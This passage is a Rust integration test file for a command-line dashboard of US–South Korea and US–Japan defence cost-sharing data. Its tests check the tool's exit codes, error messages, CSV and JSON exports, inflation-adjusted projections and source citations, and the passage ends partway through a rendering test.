//! The command line as a user runs it: exit statuses, messages, output formats.

use std::path::Path;
use std::process::{Command, Output};

/// The binary with no config file of the user's in the way: what every module that
/// runs the command line calls.
pub(crate) fn sma_dash(args: &[&str]) -> Output {
    sma_dash_with(args, &[])
}

/// The binary with `env` set, and no config file of the user's in the way.
pub(crate) fn sma_dash_with(args: &[&str], env: &[(&str, &Path)]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_sma-dash"));
    command
        .args(args)
        .env_remove("SMA_DASH_CONFIG")
        .env("XDG_CONFIG_HOME", "/nonexistent/sma-dash-tests");
    for (name, value) in env {
        command.env(name, value);
    }
    command.output().expect("the binary runs")
}

/// A config file in a directory of its own.
fn config_file(text: &str) -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("config.toml");
    std::fs::write(&path, text).unwrap();
    let shown = path.display().to_string();
    (dir, shown)
}

/// Every subcommand, and the dashboard (no subcommand), with arguments that run.
const EVERY_SUBCOMMAND: [&[&str]; 7] = [
    &[],
    &["render"],
    &["project"],
    &["export", "contributions"],
    &["check"],
    &["config"],
    &["config", "--print"],
];

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// A copy of the minimal fixture with one broken case laid over it.
fn broken_dataset(case: &str) -> tempfile::TempDir {
    minimal_dataset_with(&Path::new("broken").join(case))
}

/// A copy of the minimal fixture with the fixture directory `layer` laid over it.
fn minimal_dataset_with(layer: &Path) -> tempfile::TempDir {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let dir = tempfile::tempdir().unwrap();
    for layer in [fixtures.join("minimal"), fixtures.join(layer)] {
        for entry in std::fs::read_dir(layer).unwrap() {
            let entry = entry.unwrap();
            std::fs::copy(entry.path(), dir.path().join(entry.file_name())).unwrap();
        }
    }
    dir
}

#[test]
fn check_summarises_the_embedded_dataset() {
    let o = sma_dash(&["check"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(out.contains(": valid"), "{out}");
    assert!(
        out.contains("\n  sources          250  90% with a URL\n"),
        "{out}"
    );
    assert!(
        out.contains("contributions     36  1991–2026   23 other figures reported beside"),
        "{out}"
    );
    assert!(
        out.contains(
            "events           131  1991–2030   47 negotiation rounds (4 with people inferred), \
             45 agreement milestones"
        ),
        "{out}"
    );
    assert!(
        out.contains(
            "figures by confidence: 185 confirmed, 101 single source, 8 uncertain, 32 derived"
        ),
        "{out}"
    );
    assert!(out.contains("gaps: 1951, 1952"), "{out}");
    assert!(out.contains("derived: 2023, 2024"), "{out}");
    // What this release changed, so that a figure quoted from an older one can be traced.
    assert!(
        out.contains("\nchanges in 2026.12.07: 12 corrected, 9 added, 3 confidence\n"),
        "{out}"
    );
    assert!(
        out.contains("\n  corrected contribution 2009, in dollars: $775M → "),
        "{out}"
    );
    assert!(
        out.contains("\n  added: contribution 1994: 208.0B won;"),
        "{out}"
    );
}

#[test]
fn check_summarises_japan_s_dataset_after_korea_s() {
    let o = sma_dash(&["check"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    let korea = out
        .find("dataset 2026.12.07 — US–ROK")
        .expect("Korea's summary");
    let japan = out
        .find("dataset 2026.12.07 — US–Japan")
        .expect("Japan's summary");
    assert!(korea < japan, "{out}");
    let japan = &out[japan..];
    assert!(
        japan.contains("\n  agreements        10  1987–2026\n"),
        "{japan}"
    );
    assert!(
        japan.contains(
            "\n  contributions     32  1978–2026   no figure: 1979–1998, 2000, 2013, 2025, 2026;"
        ),
        "{japan}"
    );
    assert!(japan.contains("counting changes in 2008"), "{japan}");
    assert!(
        japan.contains("\n  Japanese CPI      26  2000–2025"),
        "{japan}"
    );
    assert!(
        japan.contains("\n  JPY per USD       26  2000–2025"),
        "{japan}"
    );
    assert!(japan.contains("Korea's series, shared"), "{japan}");
    assert!(
        japan.contains("\nchanges in 2026.12.07: 0 corrected, 2 added, 0 confidence\n"),
        "{japan}"
    );
    assert!(
        japan.contains("\n  added: Japan's dataset (first release);"),
        "{japan}"
    );
}

#[test]
fn data_dir_loads_japan_s_folder_where_there_is_one() {
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures");
    let dir = minimal_dataset_with(Path::new("minimal"));
    let path = dir.path().to_str().unwrap().to_string();
    let korea_only = stdout(&sma_dash(&["check", "--data", &path]));
    assert_eq!(korea_only.matches(": valid").count(), 1, "{korea_only}");
    std::fs::create_dir(dir.path().join("japan")).unwrap();
    for entry in std::fs::read_dir(fixtures.join("minimal-japan")).unwrap() {
        let entry = entry.unwrap();
        std::fs::copy(
            entry.path(),
            dir.path().join("japan").join(entry.file_name()),
        )
        .unwrap();
    }
    let o = sma_dash(&["check", "--data", &path]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let both = stdout(&o);
    assert!(both.contains("Minimal fixture, Japan: valid"), "{both}");
    // A problem in Japan's files is reported with its path and exits 2.
    let contributions = dir.path().join("japan/contributions.toml");
    let text = std::fs::read_to_string(&contributions).unwrap();
    std::fs::write(
        &contributions,
        text.replace("jpy_100m = 2056", "krw_100m = 2056"),
    )
    .unwrap();
    let expected = format!(
        "{}:4:1: expected `jpy_100m` in Japan's dataset, found `krw_100m`, a name of Korea's",
        contributions.display()
    );
    let o = sma_dash(&["check", "--data", &path]);
    assert_eq!(o.status.code(), Some(2));
    let err = stderr(&o);
    assert!(err.contains(&expected), "{err}");
    // The dashboard's start reads every file of --data DIR, Japan's too, though Korea
    // alone is shown first: the same problem stops it, before any frame.
    for host in [&[][..], &["--host", "kr"]] {
        let o = sma_dash(&[&["render", "--data", &path][..], host].concat());
        assert_eq!(o.status.code(), Some(2), "{host:?}");
        assert!(stdout(&o).is_empty(), "{host:?}");
        assert!(stderr(&o).contains(&expected), "{host:?}: {}", stderr(&o));
    }
}

#[test]
fn check_on_bad_data_exits_2_with_every_error_on_stderr() {
    let dir = broken_dataset("several-problems");
    let o = sma_dash(&["check", "--data", dir.path().to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stdout(&o).is_empty());
    let err = stderr(&o);
    assert!(
        err.starts_with("sma-dash: 3 problems in the dataset:\n"),
        "{err}"
    );
    let events = dir.path().join("events.toml").display().to_string();
    assert!(
        err.contains(&format!(
            "{events}:5:7: expected an end on or after 2018-03-07"
        )),
        "{err}"
    );
    assert!(
        err.contains(&format!("{events}:9:13: expected an agreement id")),
        "{err}"
    );
    assert!(
        err.contains(&format!("{events}:11:12: expected a source id")),
        "{err}"
    );
    assert_eq!(err.lines().count(), 4, "{err}");
}

#[test]
fn data_that_is_not_a_directory_is_one_line() {
    for args in [&["check"][..], &["project"], &[]] {
        let mut all = vec!["--data", "/nonexistent/dir"];
        all.extend_from_slice(args);
        let o = sma_dash(&all);
        assert_eq!(o.status.code(), Some(2), "{args:?}");
        assert_eq!(
            stderr(&o),
            "sma-dash: --data /nonexistent/dir: no such directory\n",
            "{args:?}"
        );
    }
    let file = tempfile::NamedTempFile::new().unwrap();
    let path = file.path().to_str().unwrap();
    let o = sma_dash(&["check", "--data", path]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o),
        format!(
            "sma-dash: --data {path}: expected a directory of the dataset's TOML files, found a file\n"
        )
    );
}

/// The rows of a CSV file, each as column name → cell.
fn csv_rows(text: &str) -> Vec<std::collections::HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    reader
        .records()
        .map(|r| {
            let r = r.unwrap();
            header
                .iter()
                .cloned()
                .zip(r.iter().map(String::from))
                .collect()
        })
        .collect()
}

/// The row of `rows` whose cells include every `(column, value)` of `key`.
fn find<'a>(
    rows: &'a [std::collections::HashMap<String, String>],
    key: &[(&str, &str)],
) -> &'a std::collections::HashMap<String, String> {
    rows.iter()
        .find(|r| {
            key.iter()
                .all(|(c, v)| r.get(*c).map(String::as_str) == Some(*v))
        })
        .unwrap_or_else(|| panic!("no row with {key:?}"))
}

#[test]
fn real_terms_name_their_index_recorded_or_assumed_and_are_derived_in_every_file() {
    let ok = |args: &[&str]| {
        let o = sma_dash(args);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        stdout(&o)
    };
    // A base year in the record: its CPI is recorded, with the sources of its level.
    let rows = csv_rows(&ok(&["export", "contributions", "--real", "2024"]));
    let r = find(&rows, &[("year", "2014")]);
    assert!(
        r["deflator"].starts_with("Korean CPI of 2024 recorded (WB-CPI, ")
            && r["deflator"].contains("; US CPI-U of 2024 recorded (BLS-CPIU"),
        "{}",
        r["deflator"]
    );
    assert_eq!(
        (&*r["krw_status"], &*r["usd_status"]),
        ("derived", "derived")
    );
    // Past the record: assumed, at the rate given.
    let rows = csv_rows(&ok(&[
        "project", "--real", "2028", "--cpi", "3", "--usd", "--format", "csv",
    ]));
    let r = find(&rows, &[("year", "2026"), ("scenario", "12th-sma")]);
    assert_eq!(r["status"], "derived", "a recorded year in real terms");
    assert!(
        r["deflator"].starts_with("Korean CPI of 2028 assumed: 2025 recorded, then 3 % a year (")
            && r["deflator"].contains(
                "; US CPI-U of 2028 assumed: 2025 recorded, then 2.63 % a year (BLS-CPIU"
            ),
        "{}",
        r["deflator"]
    );
    let total = find(&rows, &[("status", "total"), ("scenario", "12th-sma")]);
    assert_eq!(total["deflator"], r["deflator"]);
    let table = ok(&["project", "--real", "2028", "--cpi", "3"]);
    assert!(
        table.lines().nth(1).unwrap().starts_with(
            "deflated by: Korean CPI of 2028 assumed: 2025 recorded, then 3 % a year ("
        ),
        "{table}"
    );
    // Nominal files name no index.
    assert!(!ok(&["project", "--format", "csv"]).contains("deflator"));
    // On screen, the Costs pane's first line.
    let (_dir, config) = config_file("[assumptions]\nbase_year = 2028\nkorean_cpi = 3\n");
    let frame = ok(&["render", "--config", &config, "--keys", "2r"]);
    assert!(
        frame.contains("billion won of 2028 (Korean CPI assumed at 3 %/yr)"),
        "{frame}"
    );
    let frame = ok(&["render", "--keys", "2ru"]);
    assert!(
        frame.contains("million $ of 2025 (US CPI-U recorded)"),
        "{frame}"
    );
}

#[test]
fn project_csv_has_the_documented_columns() {
    let o = sma_dash(&[
        "project",
        "--format",
        "csv",
        "--cpi",
        "2",
        "--horizon",
        "2030",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert_eq!(
        out.lines().next(),
        Some(
            "year,scenario,status,basis,krw_bn,krw_origin,krw_per_usd,rate,capped,rule_extended,driver,sources,span,dataset_version,assumptions"
        )
    );
    let rows = csv_rows(&out);
    let r2026 = find(&rows, &[("year", "2026"), ("scenario", "12th-sma")]);
    assert_eq!(
        (
            r2026["krw_bn"].as_str(),
            r2026["status"].as_str(),
            r2026["krw_origin"].as_str()
        ),
        ("1519.2", "recorded", "published")
    );
    // 1,519.2 × 1.021 × 1.02³ = 1,646.0
    let r2030 = find(&rows, &[("year", "2030"), ("scenario", "12th-sma")]);
    assert_eq!(
        (
            r2030["krw_bn"].as_str(),
            r2030["status"].as_str(),
            r2030["krw_origin"].as_str()
        ),
        ("1646.0", "projected", "computed")
    );
    assert_eq!(r2030["driver"], "'+2.0 % (2028 CPI, assumed), cap 5 %");
    assert_eq!(r2030["basis"], "nominal");
    assert!(!r2030["assumptions"].contains("base_year"), "nominal");
    // A demand is in dollars: its won are converted, at the assumed rate.
    let demand = find(&rows, &[("year", "2030"), ("scenario", "demand-5bn")]);
    assert_eq!(
        (demand["krw_origin"].as_str(), demand["rate"].as_str()),
        ("converted", "assumed")
    );
    // Five scenarios, 2026 to 2030 each, then each one's total (at a horizon of 2030
    // the agreement's term and the horizon's span are one).
    assert_eq!(rows.len(), 5 * 5 + 5);
    assert_eq!(rows.iter().filter(|r| r["status"] == "total").count(), 5);
}

#[test]
fn project_usd_adds_a_dollar_column() {
    let o = sma_dash(&[
        "project",
        "--format",
        "csv",
        "--usd",
        "--fx",
        "1400",
        "--horizon",
        "2028",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(out.starts_with(
        "year,scenario,status,basis,krw_bn,krw_origin,usd_m,usd_origin,krw_per_usd,rate,"
    ));
    let rows = csv_rows(&out);
    // $5 bn at 1,400 won per dollar: 7,000 bn won; the dollars are the demand's own.
    let r = find(&rows, &[("year", "2028"), ("scenario", "demand-5bn")]);
    assert_eq!(
        (
            r["krw_bn"].as_str(),
            r["krw_origin"].as_str(),
            r["usd_m"].as_str(),
            r["usd_origin"].as_str(),
            r["krw_per_usd"].as_str()
        ),
        ("7000.0", "converted", "5000.0", "computed", "1400.00")
    );
    let r = find(&rows, &[("year", "2028"), ("scenario", "12th-sma")]);
    assert_eq!(
        (
            r["krw_origin"].as_str(),
            r["usd_origin"].as_str(),
            r["rate"].as_str()
        ),
        ("computed", "converted", "assumed")
    );
}

#[test]
fn project_table_marks_capped_years_and_totals() {
    let o = sma_dash(&["project", "--cpi", "7"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(out.contains("total 2026–30   12th-sma"), "{out}");
    assert!(out.contains("total 2026–35   12th-sma"), "{out}");
    let y2028 = out.lines().find(|l| l.starts_with("2028")).unwrap();
    assert!(y2028.contains('*'), "{y2028}");
    assert!(
        out.contains("* the agreement's cap bound this year"),
        "{out}"
    );
    // Past 2030 the 12th SMA's rule is extended, and says so.
    let y2031 = out.lines().find(|l| l.starts_with("2031")).unwrap();
    assert!(y2031.contains('†'), "{y2031}");
    assert!(
        out.contains(
            "† projected with an agreement's rule past its end: 12th SMA rule extended past 2030"
        ),
        "{out}"
    );
}

#[test]
fn project_footnotes_only_what_a_row_carries_and_totals_name_their_years() {
    // At 2 % the cap never binds, and a horizon of 2027 sums two years; the 12th SMA's
    // rule is not yet extended (the 11th's is, past 2025).
    let o = sma_dash(&["project", "--cpi", "2", "--horizon", "2027"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(!out.contains('*'), "{out}");
    let y2027 = out.lines().find(|l| l.starts_with("2027")).unwrap();
    assert_eq!(y2027.matches('†').count(), 1, "{y2027}");
    assert!(
        out.contains("its end: 11th SMA rule extended past 2025\n"),
        "{out}"
    );
    assert!(out.contains("total 2026–27   12th-sma"), "{out}");
    assert!(!out.contains("2026–30"), "{out}");
    // Dollars: rows and totals in one unit.
    let o = sma_dash(&["project", "--usd", "--horizon", "2027"]);
    let out = stdout(&o);
    let row = out.lines().find(|l| l.starts_with("2027")).unwrap();
    let total = out
        .lines()
        .find(|l| l.starts_with("total 2026–27   12th-sma"))
        .unwrap();
    assert!(row.contains(" ($"), "{row}");
    assert!(total.contains(" ($"), "{total}");
    assert!(!total.contains(" m)"), "{total}");
    assert!(
        out.lines().next().unwrap().contains("$ m, nominal"),
        "{out}"
    );
}

#[test]
fn project_json_records_assumptions_and_version() {
    let o = sma_dash(&["project", "--format", "json", "--real", "2020"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
    assert_eq!(v["basis"], "real");
    assert_eq!(v["base_year"], 2020);
    assert!(v["dataset_version"].is_string());
    assert!(
        v["assumptions"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["name"] == "korean_cpi")
    );
    assert!(!v["rows"].as_array().unwrap().is_empty());
    let nominal = sma_dash(&["project", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&nominal.stdout).unwrap();
    assert_eq!(v["basis"], "nominal");
    assert!(
        v.get("base_year").is_none(),
        "no base year stamped on nominal amounts"
    );
    assert!(
        !v["assumptions"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["name"] == "base_year")
    );
}

#[test]
fn out_of_range_and_malformed_options_exit_2() {
    let o = sma_dash(&["project", "--cpi", "55"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o).trim_end(),
        "sma-dash: --cpi: expected Korean CPI inflation from -5.0 % to 20.0 %, found 55"
    );
    let o = sma_dash(&["project", "--fx", "lots"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o),
        "sma-dash: --fx: expected a number, found \"lots\"\n"
    );
    let o = sma_dash(&["project", "--horizon", "soon"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o),
        "sma-dash: --horizon: expected a year as a number, found \"soon\"\n"
    );
    let o = sma_dash(&["project", "--real", "2040", "--horizon", "2035"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("--real: expected a base year no later than the horizon 2035"));
    let o = sma_dash(&["project", "--format", "xml"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).starts_with("sma-dash: invalid value 'xml' for '--format <FORMAT>'"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_rate_can_be_set_for_single_years() {
    let o = sma_dash(&[
        "project",
        "--format",
        "csv",
        "--cpi",
        "2,2027=7",
        "--horizon",
        "2030",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let rows = csv_rows(&stdout(&o));
    // 2027's 7 % reaches 2029 through the two-year lag, where the 5 % cap binds.
    let r2029 = find(&rows, &[("year", "2029"), ("scenario", "12th-sma")]);
    assert_eq!(
        (r2029["krw_bn"].as_str(), r2029["capped"].as_str()),
        ("1661.2", "true")
    );
    // Text starting with `+` is neutralised for spreadsheets (README, Robustness).
    assert_eq!(
        r2029["driver"],
        "'+5.0 %, the cap (2027 CPI 7.0 %, assumed)"
    );
    let r2030 = find(&rows, &[("year", "2030"), ("scenario", "12th-sma")]);
    assert_eq!(r2030["krw_bn"], "1694.5");
    // The override is in every row's stamp.
    assert!(
        r2030["assumptions"].contains("korean_cpi=2 (2027: 7)"),
        "{r2030:?}"
    );
    let o = sma_dash(&["project", "--cpi", "2,2027=70"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("found 70"));
}

#[test]
fn export_contributions_as_csv_records_version_and_assumptions() {
    let o = sma_dash(&["export", "contributions", "--cpi", "3"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert_eq!(
        out.lines().next(),
        Some(
            "year,basis,krw_bn,krw_status,krw_origin,usd_m,usd_status,usd_origin,krw_per_usd,agreed_in,confidence,budget_basis,reported,note,sources,dataset_version,assumptions"
        )
    );
    let rows = csv_rows(&out);
    let y2014 = find(&rows, &[("year", "2014")]);
    assert_eq!(
        (
            y2014["krw_bn"].as_str(),
            y2014["krw_status"].as_str(),
            y2014["usd_m"].as_str(),
            y2014["usd_status"].as_str(),
            y2014["agreed_in"].as_str(),
            y2014["sources"].as_str(),
            y2014["basis"].as_str()
        ),
        (
            "920.0",
            "recorded",
            "874.3",
            "converted",
            "krw",
            "R01; R08; R09; R02",
            "nominal"
        )
    );
    // The press's dollar figures are written beside, never as the series' point.
    assert_eq!(
        y2014["reported"],
        "$866.86 m reported (R09 R08); $867.0 m reported (R02)"
    );
    assert!(y2014["assumptions"].contains("korean_cpi=3;"), "{y2014:?}");
    // A year agreed in dollars: its won as the chart draws them, converted and saying so.
    let y1993 = find(&rows, &[("year", "1993")]);
    assert_eq!(
        (
            y1993["krw_bn"].as_str(),
            y1993["krw_status"].as_str(),
            y1993["usd_m"].as_str(),
            y1993["usd_status"].as_str(),
            y1993["krw_per_usd"].as_str()
        ),
        ("177.3", "converted", "220.0", "recorded", "805.75")
    );
    // The notes the data carries are kept.
    let y1991 = find(&rows, &[("year", "1991")]);
    assert!(
        y1991["reported"].contains("107.3 bn won reported (R12)"),
        "{y1991:?}"
    );
    assert_eq!(rows.len(), 36);
    // The years the dataset computes itself are never called published.
    for year in ["2023", "2024"] {
        let row = find(&rows, &[("year", year)]);
        assert_eq!(
            (row["krw_origin"].as_str(), row["confidence"].as_str()),
            ("derived", "derived"),
            "{row:?}"
        );
    }
    // Every year has both currencies, the converted ones said to be so; --usd adds
    // nothing.
    let o = sma_dash(&["export", "contributions"]);
    let rows = csv_rows(&stdout(&o));
    let y2018 = find(&rows, &[("year", "2018")]);
    assert_eq!(y2018["usd_origin"], "converted");
    assert_eq!(y2018["krw_per_usd"], "1099.29");
    assert_eq!(find(&rows, &[("year", "2014")])["usd_origin"], "converted");
    assert_eq!(
        stdout(&sma_dash(&["export", "contributions", "--usd"])),
        stdout(&o)
    );
}

#[test]
fn export_json_is_an_array_of_objects() {
    for series in [
        "contributions",
        "troops",
        "events",
        "agreements",
        "economy",
        "projections",
        "sources",
    ] {
        let o = sma_dash(&["export", series, "--format", "json"]);
        assert_eq!(o.status.code(), Some(0), "{series}: {}", stderr(&o));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).unwrap();
        let rows = v
            .as_array()
            .unwrap_or_else(|| panic!("{series} is not an array"));
        assert!(!rows.is_empty(), "{series}");
        for row in rows {
            assert!(row["dataset_version"].is_string(), "{series}");
            // Every file of figures or events says where each row comes from.
            let cites = if series == "sources" {
                "cited_by"
            } else {
                "sources"
            };
            assert!(row[cites].is_string(), "{series}: {row}");
            // The assumptions where they shape the numbers, and only there.
            match series {
                "contributions" | "projections" => assert!(
                    row["assumptions"].as_str().unwrap().contains("horizon="),
                    "{series}"
                ),
                _ => assert!(row.get("assumptions").is_none(), "{series}"),
            }
        }
    }
}

#[test]
fn export_sources_lists_what_each_source_supports_among_the_hosts_asked_for() {
    let json = |host: &str| -> Vec<serde_json::Value> {
        let o = sma_dash(&["export", "sources", "--host", host, "--format", "json"]);
        assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
        serde_json::from_slice::<serde_json::Value>(&o.stdout)
            .unwrap()
            .as_array()
            .unwrap()
            .clone()
    };
    let row = |rows: &[serde_json::Value], host: Option<&str>, id: &str| {
        rows.iter()
            .find(|r| r["id"] == id && host.is_none_or(|h| r["host"] == h))
            .unwrap_or_else(|| panic!("{id}"))
            .clone()
    };
    let list = |r: &serde_json::Value| -> Vec<String> {
        r["supports"]
            .as_str()
            .unwrap_or_default()
            .split("; ")
            .filter(|s| !s.is_empty())
            .map(String::from)
            .collect()
    };
    // Both hosts: Japan's copy of The Hill's story (J82) cites nothing of Japan's, yet
    // supports Korea's figures from Korea's copy (R02) and the estimate that cites it.
    let all = json("all");
    let j82 = row(&all, Some("jp"), "J82");
    assert_eq!(j82["citations"], 0, "cited_by stays Japan's own");
    let supports = list(&j82);
    assert!(
        supports.contains(&"kr:contribution:2018".to_string()),
        "{supports:?}"
    );
    assert!(
        supports.contains(&"share:thehill-2018-kr".to_string()),
        "{supports:?}"
    );
    assert!(list(&row(&all, Some("kr"), "R02")).contains(&"share:thehill-2018-kr".to_string()));
    // Every row's list, counted (the unit test holds it to what the sources list finds).
    for r in &all {
        assert_eq!(r["supports_count"], list(r).len(), "{}", r["id"]);
    }
    // Japan alone: its estimates' sources say so; Korea's figures are not shown.
    let jp = json("jp");
    let j70 = row(&jp, None, "J70");
    assert!(
        list(&j70).contains(&"share:gao-21-270-jp-share".to_string()),
        "{j70}"
    );
    assert!(
        jp.iter()
            .all(|r| !list(r).iter().any(|s| s.starts_with("kr:")))
    );
    // Korea alone: what cites each source (each record once: a contribution and the
    // figures reported for its year are one), then the estimates.
    for r in &json("kr") {
        let mut by: Vec<&str> = r["cited_by"]
            .as_str()
            .unwrap_or_default()
            .split("; ")
            .filter(|s| !s.is_empty())
            .collect();
        by.dedup();
        let by = by.join("; ");
        let supports = r["supports"].as_str().unwrap_or_default();
        assert!(supports.starts_with(&by), "{}", r["id"]);
        assert!(
            supports[by.len()..]
                .split("; ")
                .all(|s| s.is_empty() || s.starts_with("share:")),
            "{}",
            r["id"]
        );
    }
}

#[test]
fn export_sources_lists_every_source_and_the_records_citing_it() {
    let d = sma_dash::data::Dataset::embedded().unwrap();
    let csv = sma_dash(&["export", "sources"]);
    assert_eq!(csv.status.code(), Some(0), "{}", stderr(&csv));
    let text = stdout(&csv);
    assert_eq!(
        text.lines().next(),
        Some(
            "id,title,publisher,date,url,no_url,cited_by,citations,supports,supports_count,dataset_version"
        )
    );
    let rows = csv_rows(&text);
    let ids: Vec<&str> = rows.iter().map(|r| r["id"].as_str()).collect();
    let dataset: Vec<&str> = d.sources.iter().map(|s| s.id.as_str()).collect();
    assert_eq!(ids, dataset, "every source of the dataset, in its order");
    // The 10th SMA's press release: its agreement, its contribution, its milestones.
    let r03 = find(&rows, &[("id", "R03")]);
    assert_eq!(r03["publisher"], "ROK Ministry of Foreign Affairs");
    assert_eq!(r03["date"], "2019-02-10");
    assert_eq!(
        r03["url"],
        "https://mofa.go.kr/eng/brd/m_5676/view.do?seq=320383"
    );
    assert_eq!(
        r03["cited_by"],
        "agreement:sma-10; contribution:2019; event:sma-10-initialed; event:sma-10-signed; \
         event:sma-10-ratified; event:sma-10-in-force; event:sma-10-expiry"
    );
    assert_eq!(r03["citations"], "7");
    assert_eq!(r03["no_url"], "");
    // A source without an address says why, in the file as in the detail.
    let wilson = find(&rows, &[("id", "WILSON-CMH-1998")]);
    assert_eq!(wilson["url"], "");
    assert!(wilson["no_url"].starts_with("a printed book"), "{wilson:?}");
    // Every id any record cites is a row, and lists that record.
    let events = sma_dash(&["export", "events"]);
    for e in csv_rows(&stdout(&events)) {
        for id in e["sources"].split("; ") {
            let row = find(&rows, &[("id", id)]);
            let by: Vec<&str> = row["cited_by"].split("; ").collect();
            assert!(by.contains(&format!("event:{}", e["id"]).as_str()), "{id}");
        }
    }
    let json = sma_dash(&["export", "sources", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    let rows = v.as_array().unwrap();
    assert_eq!(rows.len(), d.sources.len());
    let r03 = rows.iter().find(|r| r["id"] == "R03").unwrap();
    assert_eq!(r03["citations"], 7);
    assert!(
        r03["cited_by"]
            .as_str()
            .unwrap()
            .starts_with("agreement:sma-10; ")
    );
    // The sources are not shaped by the assumptions.
    let o = sma_dash(&["export", "sources", "--cpi", "3"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("--cpi does not apply to the sources"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn a_projected_year_cites_its_rule_and_the_recorded_input_that_drove_it() {
    let rows = csv_rows(&stdout(&sma_dash(&["export", "projections"])));
    let d = sma_dash::data::Dataset::embedded().unwrap();
    // 2026 is recorded: the contribution's own sources.
    let start = find(&rows, &[("year", "2026"), ("scenario", "12th-sma")]);
    assert_eq!(
        start["sources"],
        d.contribution(2026).unwrap().sources.join("; ")
    );
    // 2027 under the 12th SMA: the agreement's sources, then 2025's Korean CPI's.
    let rule = &d.agreement("sma-12").unwrap().sources;
    let cpi = &d.host_cpi(2025).unwrap().sources;
    let sources = &find(&rows, &[("year", "2027"), ("scenario", "12th-sma")])["sources"];
    let mut expected: Vec<&str> = Vec::new();
    for id in rule.iter().chain(cpi) {
        if !expected.contains(&id.as_str()) {
            expected.push(id);
        }
    }
    assert!(expected.contains(&"R74") && expected.len() > rule.len());
    assert_eq!(sources.split("; ").collect::<Vec<_>>(), expected);
    // A demand cites the events that report it; the custom rate cites nothing.
    let demand = &find(&rows, &[("year", "2030"), ("scenario", "demand-5bn")])["sources"];
    assert_eq!(demand, "R39; R41; R42; KBS-2019-11-08; R46");
    assert_eq!(
        find(&rows, &[("year", "2030"), ("scenario", "custom")])["sources"],
        ""
    );
}

#[test]
fn export_writes_a_file_whole_and_names_a_bad_path() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("events.csv");
    std::fs::write(&path, "old").unwrap();
    let o = sma_dash(&["export", "events", "-o", path.to_str().unwrap()]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let written = std::fs::read_to_string(&path).unwrap();
    assert!(written.starts_with("id,date,end,kind,agreement,round,headline,"));
    assert!(written.contains("sma-10-round-1,2018-03-07,2018-03-09,round,sma-10,1,"));
    // Nothing left beside it.
    assert_eq!(std::fs::read_dir(dir.path()).unwrap().count(), 1);
    let o = sma_dash(&["export", "events", "-o", "/nonexistent/dir/events.csv"]);
    assert_eq!(o.status.code(), Some(2));
    assert_eq!(
        stderr(&o).trim_end(),
        "sma-dash: cannot write /nonexistent/dir/events.csv: no such directory /nonexistent/dir"
    );
}

#[test]
fn export_in_real_terms_uses_the_base_year_and_says_so() {
    let o = sma_dash(&["export", "contributions", "--real", "2020"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert!(
        out.starts_with("year,basis,base_year,deflator,krw_bn,"),
        "{out}"
    );
    let rows = csv_rows(&out);
    // 2020 money of 2020 is itself.
    let y2020 = find(&rows, &[("year", "2020")]);
    assert_eq!(
        (
            y2020["krw_bn"].as_str(),
            y2020["basis"].as_str(),
            y2020["base_year"].as_str()
        ),
        ("1038.9", "real", "2020")
    );
    // 920.0 × 100 / 94.20 = 976.6
    assert_eq!(find(&rows, &[("year", "2014")])["krw_bn"], "976.6");
    assert!(y2020["assumptions"].contains("base_year=2020"), "{y2020:?}");
    // The same series nominal cannot be mistaken for it.
    let nominal = stdout(&sma_dash(&["export", "contributions"]));
    assert_ne!(nominal.lines().next(), out.lines().next());
}

#[test]
fn render_prints_one_frame_after_the_keys() {
    let o = sma_dash(&[
        "render",
        "--width",
        "80",
        "--height",
        "24",
        "--keys",
        "g/Honolulu<enter><enter>",
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let out = stdout(&o);
    assert_eq!(out.lines().count(), 24);
